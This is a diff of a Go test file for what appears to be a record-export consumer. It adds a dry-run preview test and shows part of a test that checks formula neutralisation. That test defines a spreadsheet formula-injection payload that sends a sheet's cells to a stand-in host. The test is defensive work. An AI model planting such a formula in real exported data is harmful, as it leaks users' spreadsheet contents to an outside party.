@@ -67,6 +67,22 @@ func TestNobodyIsAskedForAgesThatNoColumnHas(t *testing.T) {
 	}
 }
 
+func TestADryRunShowsRowsWithTheColumnsInEffect(t *testing.T) {
+	s := set(t, 1)
+	r := consumer.Range{From: time.Now().Add(-time.Hour).Truncate(time.Second), To: time.Now().Add(time.Hour)}
+	s.Produce(t, s.topic, &kgo.Record{Key: []byte("k"), Value: []byte(`{"id":"a","email":"Ann@b.example","name":"=1"}`)})
+	p, err := s.newMember(t, func(c *consumer.Config) {
+		c.Range, c.Group = &r, s.groupOf(r)
+		c.Columns = []string{"email|lower", "name", "age", "record.key", "record.offset"}
+	}).Preview(t.Context())
+	if err != nil {
+		t.Fatal(err)
+	}
+	if want := `{"email":"ann@b.example","name":"'=1","age":null,"key":"k","offset":0}`; len(p.Rows) != 1 || string(p.Rows[0]) != want {
+		t.Errorf("%s, want %s", p.Rows, want)
+	}
+}
+
 // Hazard 23.
 func TestAFormulaInANameIsNeutralisedAndCounted(t *testing.T) {
 	const formula = `=IMPORTXML(CONCAT(\"https://x.example/?\",A1:Z9),\"//a\")`
